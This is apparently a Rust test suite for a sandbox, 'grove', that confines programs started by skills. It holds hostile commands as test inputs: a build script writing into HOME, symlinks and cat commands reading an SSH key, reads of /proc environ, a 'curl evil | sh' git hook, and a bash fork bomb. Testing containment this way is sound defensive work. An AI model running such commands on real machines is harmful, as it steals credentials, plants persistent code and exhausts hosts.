//! The OS sandbox around the programs a skill starts: a hostile build
//! script, test or symlink reaches none of the user's secrets, writes
//! nothing outside the worktree, sees none of grove's environment, leaves
//! no daemon behind, cannot plant a hook and reaches no network; and the
//! toolchains still work inside.
//!
//! Each program runs through the probe guest in bypass mode, so the gate
//! lets everything through and only the sandbox stands in the way.

use std::path::{Path, PathBuf};
use std::process::Command;

use tempfile::TempDir;

use crate::support::{Run, grove_cmd, grove_with, probe};

const SECRET: &str = "ssh-private-key-of-the-user";
const MARKER: &str = "grove-env-marker-4f1c";

/// A repository and a home folder (with an SSH key) side by side.
struct Machine {
    outer: TempDir,
}

impl Machine {
    fn new(files: &[(&str, &str)]) -> Machine {
        let outer = tempfile::tempdir().unwrap();
        let home = outer.path().join("home");
        std::fs::create_dir_all(home.join(".ssh")).unwrap();
        std::fs::write(home.join(".ssh/id_rsa"), SECRET).unwrap();
        let repo = outer.path().join("repo");
        std::fs::create_dir(&repo).unwrap();
        let git = git2::Repository::init(&repo).unwrap();
        grove_tests::write(&repo, "README.md", "# machine\n");
        for (path, text) in files {
            grove_tests::write(&repo, path, text);
        }
        grove_tests::commit_all(&git, "initial");
        Machine { outer }
    }

    fn home(&self) -> PathBuf {
        self.outer.path().join("home")
    }

    fn repo(&self) -> PathBuf {
        self.outer.path().join("repo")
    }

    /// `grove` with this machine's home as `$HOME` and a marker variable.
    fn cmd(&self) -> Command {
        let mut cmd = grove_cmd(&self.repo(), &self.outer.path().join("grove-home"));
        cmd.env("HOME", self.home()).env(MARKER, "visible");
        cmd
    }

    /// Run `script` with `sh -c` through the probe; stderr joins stdout.
    /// The Rust toolchain is found where the tests' own is.
    fn sh(&self, script: &str) -> Run {
        let script = format!(
            "export RUSTUP_HOME={} CARGO_HOME={}; {{ {script} ; }} 2>&1",
            rustup_home(),
            cargo_home()
        );
        grove_with(
            self.cmd(),
            &["run", "--mode", "bypass", "--allow", "process", probe(), "run", "sh", "-c", &script],
            None,
        )
        .expect(0)
    }
}

fn real_home() -> PathBuf {
    PathBuf::from(std::env::var_os("HOME").expect("HOME"))
}

fn rustup_home() -> String {
    std::env::var("RUSTUP_HOME").unwrap_or_else(|_| real_home().join(".rustup").display().to_string())
}

fn cargo_home() -> String {
    std::env::var("CARGO_HOME").unwrap_or_else(|_| real_home().join(".cargo").display().to_string())
}

fn ok(run: &Run) {
    assert!(run.stdout.contains("code=Some(0)"), "{}", run.stdout);
}

const CRATE_TOML: &str = "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n";
const CRATE_MAIN: &str = "fn main() { println!(\"tiny\"); }\n#[test]\nfn works() {}\n";
const BUILD_RS: &str = r#"fn main() {
    let home = std::env::var("HOME").unwrap();
    if std::fs::write(format!("{home}/pwned-by-build"), "x").is_ok() {
        println!("cargo:warning=wrote into HOME");
    }
}
"#;

#[test]
fn a_build_script_cannot_write_into_home_but_the_build_works() {
    let m = Machine::new(&[
        ("tiny/Cargo.toml", CRATE_TOML),
        ("tiny/src/main.rs", CRATE_MAIN),
        ("tiny/build.rs", BUILD_RS),
    ]);
    let run = m.sh("cd tiny && cargo build --offline");
    assert!(!m.home().join("pwned-by-build").exists(), "{}", run.stdout);
    assert!(!run.stdout.contains("wrote into HOME"), "{}", run.stdout);
    assert!(m.repo().join("tiny/target/debug/tiny").is_file(), "{}", run.stdout);
    ok(&run);
}

#[test]
fn make_npm_and_python_tests_cannot_write_into_home() {
    let m = Machine::new(&[
        ("Makefile", "all:\n\techo x > $$HOME/pwned-by-make; echo made > made.txt\n"),
        (
            "package.json",
            r#"{"name":"t","version":"1.0.0","scripts":{"test":"node -e \"require('fs').writeFileSync(require('os').homedir()+'/pwned-by-npm','x')\""}}"#,
        ),
        (
            "test_home.py",
            "import os, unittest\nclass T(unittest.TestCase):\n    def test_home(self):\n        open(os.path.expanduser('~/pwned-by-python'), 'w').write('x')\n",
        ),
    ]);
    let run = m.sh("make; npm test; python3 -m unittest");
    for name in ["pwned-by-make", "pwned-by-npm", "pwned-by-python"] {
        assert!(!m.home().join(name).exists(), "{name}: {}", run.stdout);
    }
    // make itself ran, and wrote in the worktree.
    assert_eq!(std::fs::read_to_string(m.repo().join("made.txt")).unwrap(), "made\n");
    assert!(std::fs::read_dir(m.home()).unwrap().count() == 1, "only .ssh is in HOME");
}

#[test]
fn a_symlink_to_the_users_key_shows_nothing() {
    let m = Machine::new(&[]);
    std::os::unix::fs::symlink(m.home().join(".ssh/id_rsa"), m.repo().join("key")).unwrap();
    std::os::unix::fs::symlink(m.home().join(".ssh"), m.repo().join("keys")).unwrap();
    let run = m.sh("cat key; cat $HOME/.ssh/id_rsa; grep -R ssh -e . ; grep -R . keys/; tar -chf - key keys | cat; ls -la $HOME/.ssh");
    assert!(!run.stdout.contains(SECRET), "{}", run.stdout);
    assert!(!run.stderr.contains(SECRET), "{}", run.stderr);
    // The key is still there, outside.
    assert_eq!(std::fs::read_to_string(m.home().join(".ssh/id_rsa")).unwrap(), SECRET);
}

#[test]
fn groves_environment_is_not_visible_from_inside() {
    let m = Machine::new(&[]);
    // `exec` makes grove the shell's pid, so the program is told where
    // grove's environment would be.
    let grove = grove_cmd(Path::new("."), Path::new("."));
    let mut sh = Command::new("sh");
    sh.current_dir(m.repo());
    for (name, value) in m.cmd().get_envs() {
        match value {
            Some(value) => sh.env(name, value),
            None => sh.env_remove(name),
        };
    }
    let inner = "ps eww 2>&1; cat /proc/$$/environ 2>&1; cat /proc/*/environ 2>&1; ls /proc";
    sh.args([
        "-c",
        &format!("exec \"$0\" run --mode bypass --allow process \"$1\" run sh -c \"{inner}\""),
        grove.get_program().to_str().unwrap(),
        probe(),
    ]);
    let run = grove_with(sh, &[], None).expect(0);
    ok(&run);
    assert!(!run.stdout.contains(MARKER), "{}", run.stdout);
    // ps ran and saw the sandbox's own processes only.
    assert!(run.stdout.contains("PID"), "{}", run.stdout);
}

#[test]
fn a_daemon_does_not_outlive_its_call() {
    let m = Machine::new(&[]);
    let marker = format!("grove-daemon-{}", std::process::id());
    // The pause lets the daemon leave the program's process group first.
    let run =
        m.sh(&format!("setsid sh -c 'sleep 300; echo {marker}' > /dev/null 2>&1 & sleep 1; echo started"));
    ok(&run);
    assert!(run.stdout.contains("started"), "{}", run.stdout);
    let left = Command::new("pgrep").args(["-f", &marker]).output().unwrap();
    let left = String::from_utf8_lossy(&left.stdout).into_owned();
    for pid in left.split_whitespace() {
        let _ = Command::new("kill").args(["-9", pid]).status();
    }
    assert!(left.is_empty(), "left behind: {left}");
}

#[test]
fn hooks_and_git_config_cannot_be_written() {
    let m = Machine::new(&[]);
    let git = m.repo().join(".git");
    let config = std::fs::read_to_string(git.join("config")).unwrap();
    let run = m.sh("echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
         echo '[core]' >> .git/config; git config core.hooksPath /tmp; \
         mv .git/hooks .git/hooks.old; echo ok > .git/probe-note");
    assert!(!git.join("hooks/pre-commit").exists(), "{}", run.stdout);
    assert!(git.join("hooks").is_dir());
    assert_eq!(std::fs::read_to_string(git.join("config")).unwrap(), config, "{}", run.stdout);
    // The rest of the git folder is writable: commits work.
    assert_eq!(std::fs::read_to_string(git.join("probe-note")).unwrap(), "ok\n");
}

#[test]
fn the_hosts_loopback_is_out_of_reach() {
    let m = Machine::new(&[]);
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let run = m.sh(&format!(
        "curl -s -m 3 http://127.0.0.1:{port}/ && echo CURL-REACHED; \
         python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 3); print('PY-REACHED')\""
    ));
    assert!(!run.stdout.contains("REACHED"), "{}", run.stdout);
    assert!(listener.accept().is_err(), "a connection reached the host");
}

#[test]
fn toolchains_work_inside() {
    let m = Machine::new(&[
        ("tiny/Cargo.toml", CRATE_TOML),
        ("tiny/src/main.rs", CRATE_MAIN),
        ("Makefile", "all:\n\techo made > made.txt\n"),
        (
            "package.json",
            r#"{"name":"t","version":"1.0.0","scripts":{"test":"node -e \"console.log('npm-ok')\""}}"#,
        ),
        (
            "test_ok.py",
            "import tempfile, unittest\nclass T(unittest.TestCase):\n    def test_ok(self):\n        tempfile.NamedTemporaryFile().write(b'x')\n",
        ),
    ]);
    let run = m.sh("cd tiny && cargo build --offline -q && cargo test --offline -q && cd .. && make -s && npm test && python3 -m unittest -q");
    ok(&run);
    assert!(run.stdout.contains("npm-ok"), "{}", run.stdout);
    assert!(m.repo().join("tiny/target/debug/tiny").is_file());
    assert!(m.repo().join("made.txt").is_file());
}

#[test]
fn grove_sandbox_check_says_what_the_machine_offers() {
    let m = Machine::new(&[]);
    let run = grove_with(m.cmd(), &["sandbox", "check", "--json"], None).expect(0);
    let json = run.json();
    assert_eq!(json["programs"], "sandboxed", "{}", run.stdout);
    assert_eq!(json["requirement"], "required");
    assert!(json["landlock_abi"].as_u64().unwrap() >= 1);
    let run = grove_with(m.cmd(), &["sandbox", "check"], None).expect(0);
    assert!(run.stdout.contains("programs         sandboxed"), "{}", run.stdout);
}

#[test]
fn the_policy_key_says_what_happens_without_a_sandbox() {
    let m = Machine::new(&[(".grove/policy.toml", "sandbox = \"best-effort\"\n")]);
    // A repository cannot loosen it.
    let run = grove_with(m.cmd(), &["sandbox", "check", "--json"], None).expect(0);
    assert_eq!(run.json()["requirement"], "required", "{}", run.stdout);
    let run = grove_with(m.cmd(), &["policy", "show", "--json"], None).expect(0);
    assert_eq!(run.json()["sandbox"]["value"], "required");
    assert!(run.stdout.contains("sandbox = \\\"best-effort\\\" ignored"), "{}", run.stdout);
    // The user can.
    grove_tests::write(
        &m.outer.path().join("grove-home/grove"),
        "policy.toml",
        "sandbox = \"best-effort\"\n",
    );
    let run = grove_with(m.cmd(), &["sandbox", "check"], None).expect(0);
    assert!(run.stdout.contains("sandbox = \"best-effort\" ("), "{}", run.stdout);
    assert!(run.stdout.contains("grove-home/grove/policy.toml:1"), "{}", run.stdout);
}

#[test]
fn a_linked_worktree_cannot_be_pointed_at_another_git_folder() {
    let m = Machine::new(&[]);
    let linked = m.outer.path().join("linked");
    let status = Command::new("git")
        .args(["worktree", "add", "-q", "-b", "linked"])
        .arg(&linked)
        .current_dir(m.repo())
        .status()
        .unwrap();
    assert!(status.success());
    let link = std::fs::read_to_string(linked.join(".git")).unwrap();
    let config = std::fs::read_to_string(m.repo().join(".git/config")).unwrap();
    let mut cmd = grove_cmd(&linked, &m.outer.path().join("grove-home"));
    cmd.env("HOME", m.home());
    let script = "echo 'gitdir: /tmp' > .git; git config core.hooksPath /tmp; \
                  echo x > \"$(git rev-parse --git-common-dir)/hooks/post-checkout\"; \
                  git -c user.name=t -c user.email=t@example.com commit -q --allow-empty -m inside && echo committed";
    let run = grove_with(
        cmd,
        &["run", "--mode", "bypass", "--allow", "process", probe(), "run", "sh", "-c", script],
        None,
    )
    .expect(0);
    assert_eq!(std::fs::read_to_string(linked.join(".git")).unwrap(), link, "{}", run.stdout);
    assert_eq!(std::fs::read_to_string(m.repo().join(".git/config")).unwrap(), config);
    assert!(!m.repo().join(".git/hooks/post-checkout").exists());
    // Committing, which writes in both git folders, works.
    assert!(run.stdout.contains("committed"), "{}", run.stdout);
}

/// An HTTP server on the host's `127.0.0.1` that answers every request
/// with `body`, on a thread for the rest of the test.
fn serve(body: &'static str) -> u16 {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut head = [0u8; 4096];
            let _ = stream.read(&mut head);
            let reply = format!(
                "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                body.len()
            );
            let _ = stream.write_all(reply.as_bytes());
        }
    });
    port
}

impl Machine {
    /// Give the user's policy `text`.
    fn user_policy(&self, text: &str) {
        grove_tests::write(&self.outer.path().join("grove-home/grove"), "policy.toml", text);
    }

    fn audit(&self) -> Vec<serde_json::Value> {
        let text = std::fs::read_to_string(self.repo().join(".git/grove/audit.jsonl")).unwrap_or_default();
        text.lines().map(|l| serde_json::from_str(l).unwrap()).collect()
    }
}

const BODY: &str = "hello-through-the-proxy";

#[test]
fn an_allowed_host_is_reached_through_the_egress_proxy() {
    let m = Machine::new(&[]);
    let port = serve(BODY);
    m.user_policy(&format!("[hosts]\nallow = [\"127.0.0.1:{port}\"]\n"));
    // `NO_PROXY` keeps the sandbox's own loopback direct; the host's is
    // reached through the proxy only when asked for by name like this.
    let run = m.sh(&format!(
        "curl -sS -m 10 --noproxy '' http://127.0.0.1:{port}/; echo; echo \"proxy=$http_proxy no=$NO_PROXY\""
    ));
    ok(&run);
    assert!(run.stdout.contains(BODY), "{}", run.stdout);
    assert!(run.stdout.contains("proxy=http://127.0.0.1:3128 no=localhost,127.0.0.1"), "{}", run.stdout);
    let egress: Vec<_> = m.audit().into_iter().filter(|l| l["verb"] == "egress").collect();
    assert_eq!(egress.len(), 1, "{egress:?}");
    assert_eq!(egress[0]["decision"], "allow");
    assert_eq!(egress[0]["capability"], "process");
    assert_eq!(egress[0]["target"], format!("127.0.0.1:{port}"));
}

#[test]
fn a_host_the_policy_does_not_allow_is_refused_by_the_proxy_and_audited() {
    let m = Machine::new(&[]);
    let port = serve(BODY);
    m.user_policy("[hosts]\nallow = [\"example.com\"]\n");
    // The skill's own proxy variable is replaced, and the audit says so.
    let script = format!(
        "curl -fsS -m 10 --noproxy '' http://127.0.0.1:{port}/ && echo CURL-REACHED; \
         curl -sS -m 3 --noproxy '*' http://127.0.0.1:{port}/ && echo DIRECT-REACHED; \
         python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 3); print('PY-REACHED')\""
    );
    let script = format!("{{ {script} ; }} > said.txt 2>&1");
    let args = ["run", "--mode", "bypass", "--allow", "process", probe(), "run-env"];
    grove_with(m.cmd(), &[&args[..], &["HTTP_PROXY=http://elsewhere:1", "sh", "-c", &script]].concat(), None)
        .expect(0);
    let said = std::fs::read_to_string(m.repo().join("said.txt")).unwrap();
    assert!(!said.contains(BODY), "{said}");
    assert!(!said.contains("REACHED"), "{said}");
    assert!(said.contains("returned error: 403"), "{said}");
    let audit = m.audit();
    let denied: Vec<_> = audit.iter().filter(|l| l["verb"] == "egress").collect();
    assert_eq!(denied.len(), 1, "{denied:?}");
    assert_eq!(denied[0]["decision"], "deny");
    assert!(denied[0]["reasons"][0].as_str().unwrap().contains("not an allowed host"), "{denied:?}");
    let started = audit.iter().find(|l| l["verb"] == "run").unwrap();
    assert!(started["target"].as_str().unwrap().contains("egress proxy replaces HTTP_PROXY"), "{started}");
}

/// The `pids` cgroups of grove processes that are gone.
fn stale_groups() -> Vec<String> {
    let Ok(entries) = std::fs::read_dir("/sys/fs/cgroup/pids") else { return Vec::new() };
    entries
        .flatten()
        .filter_map(|e| e.file_name().to_str().map(str::to_string))
        .filter(|name| {
            let owner = name.strip_prefix("grove-").and_then(|n| n.split_once('-')).map(|(pid, _)| pid);
            owner.is_some_and(|pid| !Path::new("/proc").join(pid).exists())
        })
        .collect()
}

#[test]
fn a_program_may_start_only_so_many_processes() {
    let m = Machine::new(&[]);
    // 600 sleeps: past the limit of 512, no more processes start.
    let run = m.sh("python3 -c \"
import subprocess
started = 0
for _ in range(600):
    try:
        subprocess.Popen(['sleep', '30'])
        started += 1
    except OSError:
        pass
print('running=%d' % started)
\"");
    ok(&run);
    let running: u32 =
        run.stdout.split("running=").nth(1).unwrap().split_whitespace().next().unwrap().parse().unwrap();
    assert!(running <= 512, "{}", run.stdout);
    assert!(running > 100, "{}", run.stdout);
}

#[test]
fn a_fork_bomb_is_contained_and_leaves_nothing() {
    let m = Machine::new(&[]);
    let marker = format!("grove-bomb-{}", std::process::id());
    let started = std::time::Instant::now();
    let script = format!("b() {{ b | b & }}; : {marker}; b");
    let run = grove_with(
        m.cmd(),
        &[
            "run",
            "--mode",
            "bypass",
            "--allow",
            "process",
            "--timeout",
            "8s",
            probe(),
            "run",
            "bash",
            "-c",
            &script,
        ],
        None,
    );
    // The call came back (timed out, or the run's deadline ended it).
    assert!(started.elapsed() < std::time::Duration::from_secs(60), "{:?}", started.elapsed());
    // The host still starts processes.
    assert!(Command::new("true").status().unwrap().success());
    std::thread::sleep(std::time::Duration::from_millis(500));
    let left = Command::new("pgrep").args(["-f", &marker]).output().unwrap();
    let left = String::from_utf8_lossy(&left.stdout).into_owned();
    for pid in left.split_whitespace() {
        let _ = Command::new("kill").args(["-9", pid]).status();
    }
    assert!(left.is_empty(), "left behind: {left} ({run:?})");
    assert!(stale_groups().is_empty(), "{:?}", stale_groups());
}

#[test]
fn grove_sandbox_check_says_how_processes_are_counted() {
    let m = Machine::new(&[]);
    let run = grove_with(m.cmd(), &["sandbox", "check", "--json"], None).expect(0);
    let limit = run.json()["process_limit"].as_str().unwrap().to_string();
    let cgroups = Path::new("/sys/fs/cgroup/pids/cgroup.procs").exists();
    assert!(limit.contains(if cgroups { "pids cgroup" } else { "RLIMIT_NPROC" }), "{limit}");
}

#[test]
fn the_cgroups_a_dead_grove_left_are_removed() {
    let root = Path::new("/sys/fs/cgroup/pids");
    if !root.join("cgroup.procs").exists() {
        return;
    }
    let mut gone = Command::new("true").spawn().unwrap();
    let dead = gone.id();
    gone.wait().unwrap();
    let stale = root.join(format!("grove-{dead}-7"));
    std::fs::create_dir(&stale).unwrap();
    let m = Machine::new(&[]);
    ok(&m.sh("true"));
    assert!(!stale.exists(), "{} is still there", stale.display());
}
